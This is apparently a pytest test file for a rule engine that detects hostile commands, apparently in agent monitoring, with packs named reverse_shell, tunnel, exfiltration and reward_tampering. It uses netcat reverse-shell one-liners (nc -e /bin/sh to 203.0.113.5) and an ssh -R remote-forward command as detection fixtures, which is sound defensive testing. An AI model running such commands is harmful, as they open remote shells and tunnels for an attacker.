"""Every pack ships, and every rule fires on its examples and not on its counter-examples."""

from __future__ import annotations

import pytest

from corral.rules import RuleEngine
from corral.rules.engine import pack_files

PACKS = ["mining", "tunnel", "reverse_shell", "probe_internal", "metadata", "exfiltration",
         "persistence", "escape", "ingress_exec", "reward_tampering", "resource", "records",
         "egress"]  # fmt: skip
ENGINE = RuleEngine.default()
CASES = [(r.id, r.match, ex, True) for r in ENGINE.rules for ex in r.examples] + [
    (r.id, r.match, ex, False) for r in ENGINE.rules for ex in r.counter_examples
]


def test_all_packs_ship_as_package_data() -> None:
    assert sorted(p.stem for p in pack_files()) == sorted(PACKS)


@pytest.mark.parametrize("pack", [p for p in PACKS if p != "records"])
def test_each_pack_has_positive_and_negative_fixtures(pack: str) -> None:
    rules = [
        r
        for r in ENGINE.rules
        if (r.category == pack or r.id.startswith(pack + ".")) and r.match != "record"
    ]
    assert rules, pack
    assert all(r.examples for r in rules), [r.id for r in rules if not r.examples]
    assert any(r.counter_examples for r in rules)


@pytest.mark.parametrize(("rule", "kind", "example", "fires"), CASES,
                         ids=[f"{c[0]}-{'pos' if c[3] else 'neg'}{i}" for i, c in enumerate(CASES)])  # fmt: skip
def test_example(rule: str, kind: str, example: object, fires: bool) -> None:
    found = ENGINE.match_event(example) if kind == "event" else ENGINE.check_command(example)  # type: ignore[arg-type]
    assert (rule in [f.rule for f in found]) is fires, [f.rule for f in found]


def test_findings_carry_the_rule_fields() -> None:
    f = ENGINE.check_command("nc -e /bin/sh 203.0.113.5 4444")[0]
    assert (f.rule, f.category, f.severity, f.attack, f.response) == (
        "reverse_shell.netcat_exec", "reverse_shell", "critical", "T1059.004", "terminate")  # fmt: skip
    assert (
        "203.0.113.5:4444" in " ".join(f.evidence.get("hosts", [])) or f.evidence["argv"][0] == "nc"
    )


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "git status",
        "make -j4",
        "python3 -m pytest -q",
        "pip install -r requirements.txt",
        "grep -rn TODO src/",
        "tar czf out.tgz build/",
        "docker ps",
        "cat README.md | head -20",
        "curl -fsSL https://example.com/data.json -o data.json",
        "chmod +x ./run.sh && ./run.sh",
    ],
)
def test_everyday_commands_are_clean(command: str) -> None:
    assert [f.rule for f in ENGINE.check_command(command) if f.severity != "low"] == []


def test_check_argv_matches_check_command() -> None:
    argv = ["ssh", "-R", "8080:localhost:22", "user@203.0.113.5"]
    assert "tunnel.ssh_remote_forward" in [f.rule for f in ENGINE.check_argv(argv)]
    nested = ["/bin/bash", "-c", "echo hi; nc -e /bin/sh 203.0.113.5 9"]
    assert "reverse_shell.netcat_exec" in [f.rule for f in ENGINE.check_argv(nested)]
